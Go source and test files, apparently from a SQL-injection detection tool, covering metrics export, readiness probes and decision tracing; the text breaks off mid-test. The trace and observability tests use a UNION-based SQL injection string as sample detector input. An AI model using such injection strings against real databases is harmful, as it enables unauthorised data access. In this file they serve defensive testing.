			if len(s) == 0 {
				return false
			}
			s, p = s[1:], p[1:]
		case '\\':
			if len(p) >= 2 {
				p = p[1:]
			}
			fallthrough
		default:
			if len(s) == 0 || s[0] != p[0] {
				return false
			}
			s, p = s[1:], p[1:]
		}
	}
	return len(s) == 0
}
