package minidb

import (
	"net"
	"strings"
	"testing"
	"time"
)

func TestExecuteRequestContainsEnginePanic(t *testing.T) {
	// A nil DB stands in for an engine bug: Exec dereferences it and
	// panics. The serving path — shared by the wire server and the proxy's
	// local backend — must answer with an error response, not crash.
	resp := ExecuteRequest(nil, &Request{Query: "SELECT a FROM t"})
	if !strings.Contains(resp.Error, "internal error") {
		t.Fatalf("response = %+v, want a contained internal error", resp)
	}
}

func TestServerSurvivesEnginePanic(t *testing.T) {
	// The connection that triggered a contained panic gets the error and
	// stays usable; the server keeps serving.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &Server{db: nil, conns: make(map[net.Conn]struct{})}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	defer func() {
		_ = srv.Close()
		<-done
	}()
	c, err := Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for i := 0; i < 3; i++ {
		_ = c.conn.SetDeadline(time.Now().Add(5 * time.Second))
		_, err := c.Query("SELECT a FROM t")
		if err == nil || !strings.Contains(err.Error(), "internal error") {
			t.Fatalf("request %d: err = %v, want contained internal error", i, err)
		}
	}
}
