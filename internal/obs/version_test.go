package obs

import (
	"strings"
	"sync/atomic"
	"testing"

	"joza/internal/metrics"
)

// TestReadyzDistinctFromHealthz: /healthz answers 200 for a live process
// regardless of readiness, while /readyz follows the WithReady callback —
// 503 before a snapshot serves or once a drain begins. Without WithReady
// the endpoint degrades to liveness, so pre-readiness deployments keep
// their behavior.
func TestReadyzDistinctFromHealthz(t *testing.T) {
	var ready atomic.Bool
	snap := testSnapshot()
	srv := NewServer(func() metrics.Snapshot { return snap }, nil, WithReady(ready.Load))
	addr, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	base := "http://" + addr.String()

	if code, _ := get(t, base+"/healthz"); code != 200 {
		t.Fatalf("healthz = %d, want 200 while not ready", code)
	}
	if code, body := get(t, base+"/readyz"); code != 503 || !strings.Contains(body, "not ready") {
		t.Fatalf("readyz before ready = %d %q, want 503 not ready", code, body)
	}
	ready.Store(true)
	if code, _ := get(t, base+"/readyz"); code != 200 {
		t.Fatalf("readyz once ready = %d, want 200", code)
	}
	// The drain begins: readiness flips while liveness holds.
	ready.Store(false)
	if code, _ := get(t, base+"/readyz"); code != 503 {
		t.Fatalf("readyz during drain = %d, want 503", code)
	}
	if code, _ := get(t, base+"/healthz"); code != 200 {
		t.Fatalf("healthz during drain = %d, want 200", code)
	}
}

func TestReadyzDefaultsToLiveness(t *testing.T) {
	_, base := startTestServer(t, nil)
	if code, _ := get(t, base+"/readyz"); code != 200 {
		t.Fatalf("readyz without WithReady = %d, want 200", code)
	}
}

// TestPrometheusVersionSeries: a versioned snapshot exports the
// joza_snapshot_version_info gauge; per-shard versions export as info
// series plus a skew gauge counting shards off the dominant version and a
// stale-served counter per shard. A "mixed" fleet suppresses the
// fleet-level info series (there is no one version to claim).
func TestPrometheusVersionSeries(t *testing.T) {
	snap := testSnapshot()
	snap.SnapshotVersion = "feedfacefeedface"
	snap.Shards = []metrics.ShardHealth{
		{Shard: "a", BreakerState: "closed", Version: "feedfacefeedface"},
		{Shard: "b", BreakerState: "closed", Version: "feedfacefeedface"},
		{Shard: "c", BreakerState: "closed", Version: "0123456789abcdef", StaleServed: 3},
	}
	srv := NewServer(func() metrics.Snapshot { return snap }, nil)
	addr, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	_, body := get(t, "http://"+addr.String()+"/metrics")

	for _, want := range []string{
		`joza_snapshot_version_info{version="feedfacefeedface"} 1`,
		`joza_shard_snapshot_info{shard="a",version="feedfacefeedface"} 1`,
		`joza_shard_snapshot_info{shard="c",version="0123456789abcdef"} 1`,
		"joza_shard_version_skew 1",
		`joza_shard_stale_served_total{shard="c"} 3`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics missing %q", want)
		}
	}
}

func TestPrometheusMixedVersionSuppressesFleetGauge(t *testing.T) {
	snap := testSnapshot()
	snap.SnapshotVersion = "mixed"
	srv := NewServer(func() metrics.Snapshot { return snap }, nil)
	addr, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	_, body := get(t, "http://"+addr.String()+"/metrics")
	if strings.Contains(body, "joza_snapshot_version_info") {
		t.Error("mixed fleet must not claim a single version_info series")
	}
}
