// Package obs serves the operator-facing observability surface over HTTP:
// Prometheus text-format metrics, Go pprof profiling endpoints, a health
// probe and the decision-trace rings. One obs.Server fronts any component
// that can produce a metrics.Snapshot — the in-process Guard, the PTI
// daemon, the database proxy — so every deployment mode exposes the same
// endpoints:
//
//	/metrics        Prometheus text format (counters, latency and
//	                per-stage histograms)
//	/healthz        liveness probe ("ok")
//	/readyz         readiness probe: 503 until the owner has a committed
//	                analysis snapshot and flips back to 503 before drain
//	                stops accepting (see WithReady)
//	/traces         recent + notable decision traces as JSON
//	/debug/pprof/   the standard Go profiling handlers
package obs

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"sort"
	"strings"
	"sync"
	"time"

	"joza/internal/metrics"
	"joza/internal/trace"
)

// Server is the observability HTTP server. Construct with NewServer,
// start with Start (or mount Handler on an existing mux).
type Server struct {
	snapshot func() metrics.Snapshot
	tracer   *trace.Tracer
	ready    func() bool

	mu   sync.Mutex
	ln   net.Listener
	http *http.Server
}

// Option configures a Server.
type Option func(*Server)

// WithReady wires the /readyz probe to ready: the endpoint answers 503
// until ready() reports true. Liveness (/healthz) is unaffected — a
// process that is up but has no committed snapshot, or is draining, is
// alive but not ready. Without this option /readyz always answers ok,
// matching owners that are ready the moment they serve.
func WithReady(ready func() bool) Option {
	return func(s *Server) { s.ready = ready }
}

// NewServer returns a server exporting snapshots from snapshot and traces
// from tracer. tracer may be nil (the /traces endpoint serves an empty
// dump); snapshot must be non-nil and safe for concurrent use.
func NewServer(snapshot func() metrics.Snapshot, tracer *trace.Tracer, opts ...Option) *Server {
	s := &Server{snapshot: snapshot, tracer: tracer}
	for _, o := range opts {
		o(s)
	}
	return s
}

// Handler returns the endpoint mux, for callers that want to mount the
// observability surface on their own server.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", s.handleMetrics)
	mux.HandleFunc("/healthz", s.handleHealthz)
	mux.HandleFunc("/readyz", s.handleReadyz)
	mux.HandleFunc("/traces", s.handleTraces)
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// Start listens on addr (host:port; port 0 picks a free port) and serves
// in the background until Close. It returns the bound address.
func (s *Server) Start(addr string) (net.Addr, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("obs listen: %w", err)
	}
	srv := &http.Server{
		Handler:           s.Handler(),
		ReadHeaderTimeout: 10 * time.Second,
	}
	s.mu.Lock()
	s.ln = ln
	s.http = srv
	s.mu.Unlock()
	go func() { _ = srv.Serve(ln) }()
	return ln.Addr(), nil
}

// Addr returns the bound listen address ("" before Start).
func (s *Server) Addr() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.ln == nil {
		return ""
	}
	return s.ln.Addr().String()
}

// Close stops the server. Safe to call without Start and more than once.
func (s *Server) Close() error {
	s.mu.Lock()
	srv := s.http
	s.http = nil
	s.ln = nil
	s.mu.Unlock()
	if srv == nil {
		return nil
	}
	return srv.Close()
}

func (s *Server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	_, _ = w.Write([]byte("ok\n"))
}

func (s *Server) handleReadyz(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	if s.ready != nil && !s.ready() {
		w.WriteHeader(http.StatusServiceUnavailable)
		_, _ = w.Write([]byte("not ready\n"))
		return
	}
	_, _ = w.Write([]byte("ok\n"))
}

func (s *Server) handleTraces(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(s.tracer.Dump())
}

func (s *Server) handleMetrics(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	var b strings.Builder
	WritePrometheus(&b, s.snapshot())
	_, _ = w.Write([]byte(b.String()))
}

// WritePrometheus renders a snapshot in the Prometheus text exposition
// format. It is the one serialization path for every deployment mode: the
// snapshot may come from a local Collector or from the daemon's "stats"
// verb across the wire — the output is identical either way.
func WritePrometheus(b *strings.Builder, s metrics.Snapshot) {
	counter := func(name, help string, v uint64) {
		fmt.Fprintf(b, "# HELP %s %s\n# TYPE %s counter\n%s %d\n", name, help, name, name, v)
	}
	if s.SnapshotVersion != "" && s.SnapshotVersion != "mixed" {
		fmt.Fprintf(b, "# HELP joza_snapshot_version_info Content-derived version of the serving analysis snapshot.\n# TYPE joza_snapshot_version_info gauge\njoza_snapshot_version_info{version=%q} 1\n", s.SnapshotVersion)
	}
	counter("joza_checks_total", "Queries analyzed by the hybrid guard.", s.Checks)
	counter("joza_attacks_total", "Queries flagged as attacks.", s.Attacks)
	counter("joza_nti_attacks_total", "Attacks flagged by negative taint inference.", s.NTIAttacks)
	counter("joza_pti_attacks_total", "Attacks flagged by positive taint inference.", s.PTIAttacks)
	counter("joza_profile_attacks_total", "Attacks flagged by the query-skeleton profile stage.", s.ProfileAttacks)
	if s.ProfileSites+s.ProfileSkeletons > 0 {
		fmt.Fprintf(b, "# HELP joza_profile_sites Call sites in the loaded query-skeleton profile store.\n# TYPE joza_profile_sites gauge\njoza_profile_sites %d\n", s.ProfileSites)
		fmt.Fprintf(b, "# HELP joza_profile_skeletons Query skeletons across all profiled call sites.\n# TYPE joza_profile_skeletons gauge\njoza_profile_skeletons %d\n", s.ProfileSkeletons)
	}
	counter("joza_degraded_checks_total", "Checks served under daemon-outage degradation.", s.DegradedChecks)
	counter("joza_panics_recovered_total", "Analyzer-stage panics recovered into failure-mode verdicts.", s.PanicsRecovered)
	counter("joza_over_budget_checks_total", "Checks that exceeded a cost budget.", s.OverBudgetChecks)
	counter("joza_shed_requests_total", "Requests rejected by admission control.", s.ShedRequests)
	if s.BreakerState != "" && s.BreakerState != "disabled" {
		counter("joza_breaker_trips_total", "Daemon-transport circuit breaker trips.", s.BreakerTrips)
		counter("joza_breaker_rejects_total", "Calls short-circuited by the open breaker.", s.BreakerRejects)
		counter("joza_breaker_probes_total", "Half-open probes admitted by the breaker.", s.BreakerProbes)
		open := 0
		if s.BreakerState != "closed" {
			open = 1
		}
		fmt.Fprintf(b, "# HELP joza_breaker_open Whether the daemon-transport breaker is open or half-open.\n# TYPE joza_breaker_open gauge\njoza_breaker_open %d\n", open)
	}
	counter("joza_nti_matcher_calls_total", "Invocations of the approximate matcher.", s.NTIMatcherCalls)
	counter("joza_nti_matcher_early_exits_total", "Matcher runs abandoned early (threshold band or scan miss).", s.NTIMatcherEarlyExits)
	counter("joza_nti_prefilter_checks_total", "Input-query pairs examined by the q-gram prefilter.", s.NTIPrefilterChecks)
	counter("joza_nti_prefilter_rejects_total", "Pairs rejected by the q-gram prefilter before any matcher ran.", s.NTIPrefilterRejects)

	fmt.Fprintf(b, "# HELP joza_pti_cache_lookups_total PTI cache lookups by outcome.\n# TYPE joza_pti_cache_lookups_total counter\n")
	fmt.Fprintf(b, "joza_pti_cache_lookups_total{outcome=\"query_hit\"} %d\n", s.CacheQueryHits)
	fmt.Fprintf(b, "joza_pti_cache_lookups_total{outcome=\"structure_hit\"} %d\n", s.CacheStructureHits)
	fmt.Fprintf(b, "joza_pti_cache_lookups_total{outcome=\"miss\"} %d\n", s.CacheMisses)

	if s.DaemonAnalyzeOps+s.DaemonBatchOps+s.DaemonStatsOps+s.DaemonTracesOps+s.DaemonErrors+s.DaemonTimeouts > 0 {
		fmt.Fprintf(b, "# HELP joza_daemon_ops_total Daemon wire requests by verb.\n# TYPE joza_daemon_ops_total counter\n")
		fmt.Fprintf(b, "joza_daemon_ops_total{op=\"analyze\"} %d\n", s.DaemonAnalyzeOps)
		fmt.Fprintf(b, "joza_daemon_ops_total{op=\"batch\"} %d\n", s.DaemonBatchOps)
		fmt.Fprintf(b, "joza_daemon_ops_total{op=\"stats\"} %d\n", s.DaemonStatsOps)
		fmt.Fprintf(b, "joza_daemon_ops_total{op=\"traces\"} %d\n", s.DaemonTracesOps)
		counter("joza_daemon_batch_items_total", "Analyze items carried inside batch frames.", s.DaemonBatchItems)
		counter("joza_daemon_errors_total", "Daemon protocol errors.", s.DaemonErrors)
		counter("joza_daemon_timeouts_total", "Connections dropped by the read deadline.", s.DaemonTimeouts)
	}

	if len(s.Shards) > 0 {
		fmt.Fprintf(b, "# HELP joza_shard_breaker_open Whether a shard's transport breaker is open or half-open.\n# TYPE joza_shard_breaker_open gauge\n")
		for _, sh := range s.Shards {
			open := 0
			if sh.BreakerState != "" && sh.BreakerState != "closed" && sh.BreakerState != "disabled" {
				open = 1
			}
			fmt.Fprintf(b, "joza_shard_breaker_open{shard=%q} %d\n", sh.Shard, open)
		}
		shardCounter := func(name, help string, get func(metrics.ShardHealth) uint64) {
			fmt.Fprintf(b, "# HELP %s %s\n# TYPE %s counter\n", name, help, name)
			for _, sh := range s.Shards {
				fmt.Fprintf(b, "%s{shard=%q} %d\n", name, sh.Shard, get(sh))
			}
		}
		shardCounter("joza_shard_breaker_trips_total", "Breaker trips per shard.",
			func(sh metrics.ShardHealth) uint64 { return sh.BreakerTrips })
		shardCounter("joza_shard_breaker_rejects_total", "Calls short-circuited by a shard's open breaker.",
			func(sh metrics.ShardHealth) uint64 { return sh.BreakerRejects })
		shardCounter("joza_shard_dials_total", "Connections dialed per shard.",
			func(sh metrics.ShardHealth) uint64 { return sh.Dials })
		shardCounter("joza_shard_exhausted_total", "Requests that exhausted reconnection attempts per shard.",
			func(sh metrics.ShardHealth) uint64 { return sh.Exhausted })
		versioned := 0
		for _, sh := range s.Shards {
			if sh.Version != "" {
				versioned++
			}
		}
		if versioned > 0 {
			// Skew counts shards disagreeing with the dominant reported
			// version; 0 means the fleet serves one coherent generation.
			byVer := make(map[string]int)
			for _, sh := range s.Shards {
				if sh.Version != "" {
					byVer[sh.Version]++
				}
			}
			dominant := 0
			for _, n := range byVer {
				if n > dominant {
					dominant = n
				}
			}
			fmt.Fprintf(b, "# HELP joza_shard_snapshot_info Snapshot version last reported by each shard.\n# TYPE joza_shard_snapshot_info gauge\n")
			for _, sh := range s.Shards {
				if sh.Version != "" {
					fmt.Fprintf(b, "joza_shard_snapshot_info{shard=%q,version=%q} 1\n", sh.Shard, sh.Version)
				}
			}
			fmt.Fprintf(b, "# HELP joza_shard_version_skew Shards whose reported snapshot version differs from the fleet's dominant one.\n# TYPE joza_shard_version_skew gauge\njoza_shard_version_skew %d\n", versioned-dominant)
			shardCounter("joza_shard_stale_served_total", "Verdicts served by a shard while its version lagged the fleet's current one.",
				func(sh metrics.ShardHealth) uint64 { return sh.StaleServed })
		}
	}

	emitted := make(map[string]bool)
	writeHistogram(b, emitted, "joza_check_duration_seconds",
		"Hybrid check latency (sampled).", s.LatencyBuckets, s.LatencyCount, s.LatencySumNs, "")
	for _, st := range s.Stages {
		writeHistogram(b, emitted, "joza_stage_duration_seconds",
			"Per-stage durations of traced checks.", st.Buckets, st.Count, st.SumNs,
			fmt.Sprintf("stage=%q", st.Stage))
	}
}

// writeHistogram renders one histogram in Prometheus text format, with
// cumulative buckets and seconds units. labels is an optional extra label
// pair rendered inside the braces (e.g. `stage="lex"`); emitted tracks
// metric families whose HELP/TYPE header is already out, since labelled
// series share one family header.
func writeHistogram(b *strings.Builder, emitted map[string]bool, name, help string, buckets []metrics.Bucket, count uint64, sumNs int64, labels string) {
	if !emitted[name] {
		emitted[name] = true
		fmt.Fprintf(b, "# HELP %s %s\n# TYPE %s histogram\n", name, help, name)
	}
	sep := ""
	if labels != "" {
		sep = ","
	}
	sort.Slice(buckets, func(i, j int) bool { return buckets[i].LeNs < buckets[j].LeNs })
	var cum uint64
	for _, bk := range buckets {
		cum += bk.Count
		fmt.Fprintf(b, "%s_bucket{%s%sle=\"%g\"} %d\n",
			name, labels, sep, float64(bk.LeNs)/1e9, cum)
	}
	fmt.Fprintf(b, "%s_bucket{%s%sle=\"+Inf\"} %d\n", name, labels, sep, count)
	if labels != "" {
		fmt.Fprintf(b, "%s_sum{%s} %g\n", name, labels, float64(sumNs)/1e9)
		fmt.Fprintf(b, "%s_count{%s} %d\n", name, labels, count)
	} else {
		fmt.Fprintf(b, "%s_sum %g\n", name, float64(sumNs)/1e9)
		fmt.Fprintf(b, "%s_count %d\n", name, count)
	}
}
