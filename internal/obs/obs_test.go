package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"joza/internal/metrics"
	"joza/internal/trace"
)

func testSnapshot() metrics.Snapshot {
	c := metrics.NewCollector()
	c.RecordCheck(false, false, false, 2*time.Microsecond)
	c.RecordCheck(true, false, false, 40*time.Microsecond)
	c.RecordDegraded()
	c.ObserveStage(metrics.StageLex, time.Microsecond)
	c.ObserveStage(metrics.StagePTICover, 3*time.Microsecond)
	c.ObserveStage(metrics.StageNTIMatch, 5*time.Microsecond)
	c.ObserveStage(metrics.StageNTIPrefilter, 2*time.Microsecond)
	s := c.Snapshot()
	s.NTIPrefilterChecks = 6
	s.NTIPrefilterRejects = 5
	s.CacheQueryHits = 7
	s.CacheMisses = 2
	s.DaemonAnalyzeOps = 9
	s.DaemonStatsOps = 1
	return s
}

func startTestServer(t *testing.T, tracer *trace.Tracer) (*Server, string) {
	t.Helper()
	snap := testSnapshot()
	srv := NewServer(func() metrics.Snapshot { return snap }, tracer)
	addr, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return srv, "http://" + addr.String()
}

func get(t *testing.T, url string) (int, string) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestMetricsEndpoint(t *testing.T) {
	_, base := startTestServer(t, nil)
	code, body := get(t, base+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics status %d", code)
	}
	for _, want := range []string{
		"joza_checks_total 2",
		"joza_attacks_total 1",
		"joza_degraded_checks_total 1",
		`joza_pti_cache_lookups_total{outcome="query_hit"} 7`,
		`joza_daemon_ops_total{op="analyze"} 9`,
		"# TYPE joza_check_duration_seconds histogram",
		`joza_check_duration_seconds_bucket{le="+Inf"} 2`,
		"joza_check_duration_seconds_count 2",
		"# TYPE joza_stage_duration_seconds histogram",
		`joza_stage_duration_seconds_bucket{stage="lex"`,
		`joza_stage_duration_seconds_bucket{stage="pti_cover"`,
		`joza_stage_duration_seconds_count{stage="nti_match"} 1`,
		`joza_stage_duration_seconds_count{stage="nti_prefilter"} 1`,
		"joza_nti_prefilter_checks_total 6",
		"joza_nti_prefilter_rejects_total 5",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q\n%s", want, body)
		}
	}
	// The HELP/TYPE header for the stage family must appear exactly once.
	if n := strings.Count(body, "# TYPE joza_stage_duration_seconds histogram"); n != 1 {
		t.Errorf("stage family header appears %d times, want 1", n)
	}
}

func TestCumulativeBuckets(t *testing.T) {
	var b strings.Builder
	s := metrics.Snapshot{
		LatencyCount: 3,
		LatencySumNs: 3000,
		LatencyBuckets: []metrics.Bucket{
			{LeNs: 1024, Count: 2},
			{LeNs: 2048, Count: 1},
		},
	}
	WritePrometheus(&b, s)
	out := b.String()
	for _, want := range []string{
		`joza_check_duration_seconds_bucket{le="1.024e-06"} 2`,
		`joza_check_duration_seconds_bucket{le="2.048e-06"} 3`,
		`joza_check_duration_seconds_bucket{le="+Inf"} 3`,
		"joza_check_duration_seconds_sum 3e-06",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
}

func TestHealthz(t *testing.T) {
	_, base := startTestServer(t, nil)
	code, body := get(t, base+"/healthz")
	if code != http.StatusOK || body != "ok\n" {
		t.Fatalf("/healthz = %d %q", code, body)
	}
}

func TestPprofEndpoints(t *testing.T) {
	_, base := startTestServer(t, nil)
	code, body := get(t, base+"/debug/pprof/")
	if code != http.StatusOK || !strings.Contains(body, "goroutine") {
		t.Fatalf("/debug/pprof/ = %d", code)
	}
	code, _ = get(t, base+"/debug/pprof/cmdline")
	if code != http.StatusOK {
		t.Fatalf("/debug/pprof/cmdline = %d", code)
	}
}

func TestTracesEndpoint(t *testing.T) {
	tracer := trace.New(trace.Config{SampleEvery: 1, RingSize: 8})
	s := tracer.Start("SELECT * FROM t WHERE id=-1 UNION SELECT 1")
	s.SetVerdict(true, true, false)
	tracer.Finish(s)
	_, base := startTestServer(t, tracer)
	code, body := get(t, base+"/traces")
	if code != http.StatusOK {
		t.Fatalf("/traces status %d", code)
	}
	var dump trace.Dump
	if err := json.Unmarshal([]byte(body), &dump); err != nil {
		t.Fatalf("traces not JSON: %v\n%s", err, body)
	}
	if len(dump.Recent) != 1 || len(dump.Notable) != 1 {
		t.Fatalf("dump = %d recent, %d notable; want 1/1", len(dump.Recent), len(dump.Notable))
	}
	if !dump.Notable[0].Attack {
		t.Fatal("notable trace lost its verdict")
	}
}

func TestTracesEndpointNilTracer(t *testing.T) {
	_, base := startTestServer(t, nil)
	code, body := get(t, base+"/traces")
	if code != http.StatusOK {
		t.Fatalf("/traces status %d", code)
	}
	var dump trace.Dump
	if err := json.Unmarshal([]byte(body), &dump); err != nil {
		t.Fatal(err)
	}
	if len(dump.Recent) != 0 || len(dump.Notable) != 0 {
		t.Fatal("nil tracer must serve an empty dump")
	}
}

// TestConcurrentScrapes hammers every endpoint from several goroutines
// while traces are being recorded, for the -race build.
func TestConcurrentScrapes(t *testing.T) {
	tracer := trace.New(trace.Config{SampleEvery: 1, RingSize: 16})
	_, base := startTestServer(t, tracer)
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				sp := tracer.Start(fmt.Sprintf("q%d", i))
				sp.SetVerdict(i%3 == 0, false, false)
				tracer.Finish(sp)
			}
		}()
		for _, ep := range []string{"/metrics", "/healthz", "/traces"} {
			wg.Add(1)
			go func(ep string) {
				defer wg.Done()
				for i := 0; i < 10; i++ {
					if code, _ := get(t, base+ep); code != http.StatusOK {
						t.Errorf("%s returned %d", ep, code)
						return
					}
				}
			}(ep)
		}
	}
	wg.Wait()
}

func TestCloseIdempotent(t *testing.T) {
	srv := NewServer(func() metrics.Snapshot { return metrics.Snapshot{} }, nil)
	if err := srv.Close(); err != nil {
		t.Fatalf("close before start: %v", err)
	}
	if _, err := srv.Start("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if srv.Addr() == "" {
		t.Fatal("Addr empty after Start")
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatalf("second close: %v", err)
	}
}
