package trace

import (
	"encoding/json"
	"sync"
	"testing"
	"time"
)

func TestNilTracerAndSpanAreSafe(t *testing.T) {
	var tr *Tracer
	s := tr.Start("SELECT 1")
	if s != nil {
		t.Fatal("nil tracer must hand out nil spans")
	}
	// Every recording method must be a no-op on a nil span.
	s.Lex(time.Millisecond)
	s.PTICover(time.Millisecond)
	s.NTIMatch(time.Millisecond)
	s.SetCacheOutcome(CacheMiss)
	s.SetDegraded()
	s.AddInput(InputMatch{})
	s.AddCover(Cover{})
	s.AddUncovered(Uncovered{})
	s.SetVerdict(true, true, false)
	s.Merge(&Span{})
	if s.Active() {
		t.Fatal("nil span must not be active")
	}
	tr.Finish(s)
	d := tr.Dump()
	if len(d.Recent) != 0 || len(d.Notable) != 0 {
		t.Fatal("nil tracer dump must be empty")
	}
}

func TestDisabledConfigReturnsNil(t *testing.T) {
	if New(Config{SampleEvery: 0}) != nil {
		t.Fatal("SampleEvery 0 must disable tracing")
	}
	if New(Config{SampleEvery: -3}) != nil {
		t.Fatal("negative SampleEvery must disable tracing")
	}
}

func TestDisabledTracingZeroAllocs(t *testing.T) {
	var tr *Tracer
	allocs := testing.AllocsPerRun(200, func() {
		s := tr.Start("SELECT * FROM posts WHERE id=1")
		s.Lex(0)
		s.SetCacheOutcome(CacheQueryHit)
		s.SetVerdict(false, false, false)
		tr.Finish(s)
	})
	if allocs != 0 {
		t.Fatalf("disabled tracing allocated %v times per op, want 0", allocs)
	}
}

func TestSampling(t *testing.T) {
	tr := New(Config{SampleEvery: 4, RingSize: 64})
	var sampled int
	for i := 0; i < 32; i++ {
		s := tr.Start("q")
		if s != nil {
			sampled++
			tr.Finish(s)
		}
	}
	if sampled != 8 {
		t.Fatalf("SampleEvery=4 over 32 checks sampled %d, want 8", sampled)
	}
	d := tr.Dump()
	if d.Started != 8 || d.Finished != 8 {
		t.Fatalf("counters started=%d finished=%d, want 8/8", d.Started, d.Finished)
	}
	if len(d.Recent) != 8 {
		t.Fatalf("recent ring holds %d, want 8", len(d.Recent))
	}
}

func TestSampleEveryOneTracesAll(t *testing.T) {
	tr := New(Config{SampleEvery: 1, RingSize: 8})
	for i := 0; i < 5; i++ {
		s := tr.Start("q")
		if s == nil {
			t.Fatal("SampleEvery=1 must trace every check")
		}
		tr.Finish(s)
	}
}

func TestRingOverwritesOldest(t *testing.T) {
	tr := New(Config{SampleEvery: 1, RingSize: 4})
	queries := []string{"q0", "q1", "q2", "q3", "q4", "q5"}
	for _, q := range queries {
		tr.Finish(tr.Start(q))
	}
	d := tr.Dump()
	if len(d.Recent) != 4 {
		t.Fatalf("ring holds %d, want 4", len(d.Recent))
	}
	want := []string{"q2", "q3", "q4", "q5"}
	for i, s := range d.Recent {
		if s.Query != want[i] {
			t.Fatalf("recent[%d] = %q, want %q (oldest-first)", i, s.Query, want[i])
		}
	}
}

func TestNotableRetainsAttacksAndSlow(t *testing.T) {
	tr := New(Config{SampleEvery: 1, RingSize: 8, SlowThreshold: time.Hour})
	benign := tr.Start("benign")
	benign.SetVerdict(false, false, false)
	tr.Finish(benign)

	attack := tr.Start("attack")
	attack.SetVerdict(true, false, false)
	tr.Finish(attack)

	degraded := tr.Start("degraded")
	degraded.SetDegraded()
	tr.Finish(degraded)

	d := tr.Dump()
	if len(d.Recent) != 3 {
		t.Fatalf("recent holds %d, want 3", len(d.Recent))
	}
	if len(d.Notable) != 2 {
		t.Fatalf("notable holds %d, want 2 (attack + degraded)", len(d.Notable))
	}
	if d.Notable[0].Query != "attack" || d.Notable[1].Query != "degraded" {
		t.Fatalf("notable = %q,%q", d.Notable[0].Query, d.Notable[1].Query)
	}

	// A slow benign span is notable too.
	slow := New(Config{SampleEvery: 1, RingSize: 8, SlowThreshold: time.Nanosecond})
	s := slow.Start("slowpoke")
	time.Sleep(time.Microsecond)
	slow.Finish(s)
	if got := slow.Dump().Notable; len(got) != 1 || got[0].Query != "slowpoke" {
		t.Fatalf("slow span must be notable, got %v", got)
	}
}

func TestSpanEvidenceAccumulates(t *testing.T) {
	tr := New(Config{SampleEvery: 1, RingSize: 4})
	s := tr.Start("SELECT * FROM posts WHERE id=-1 UNION SELECT 1")
	s.Lex(2 * time.Microsecond)
	s.SetCacheOutcome(CacheMiss)
	s.PTICover(3 * time.Microsecond)
	s.AddInput(InputMatch{Index: 0, Source: "get:id", MatchNs: 500, Matched: true, Start: 29, End: 45, Distance: 1})
	s.AddUncovered(Uncovered{Token: "UNION", TokenStart: 32, TokenEnd: 37})
	s.SetVerdict(true, true, false)
	tr.Finish(s)

	got := tr.Dump().Recent[0]
	if got.LexNs != 2000 || got.PTICoverNs != 3000 {
		t.Fatalf("stage durations lex=%d cover=%d", got.LexNs, got.PTICoverNs)
	}
	if got.NTIMatchNs != 500 {
		t.Fatalf("AddInput must accumulate NTIMatchNs, got %d", got.NTIMatchNs)
	}
	if !got.Attack || !got.NTIAttack || !got.PTIAttack {
		t.Fatal("verdict not recorded")
	}
	if got.CacheOutcome != CacheMiss {
		t.Fatalf("cache outcome %q", got.CacheOutcome)
	}
	if len(got.Inputs) != 1 || got.Inputs[0].Source != "get:id" {
		t.Fatalf("input evidence %v", got.Inputs)
	}
	if got.TotalNs <= 0 {
		t.Fatal("finish must stamp total duration")
	}
	if len(got.UncoveredTokens) != 1 || got.UncoveredTokens[0].Token != "UNION" {
		t.Fatalf("uncovered evidence %v", got.UncoveredTokens)
	}
}

func TestMergeRemoteSpan(t *testing.T) {
	local := &Span{LexNs: 10, NTIMatchNs: 100}
	remote := &Span{
		LexNs:           40,
		PTICoverNs:      60,
		CacheOutcome:    CacheStructureHit,
		Covers:          []Cover{{Token: "SELECT", FragmentID: 3}},
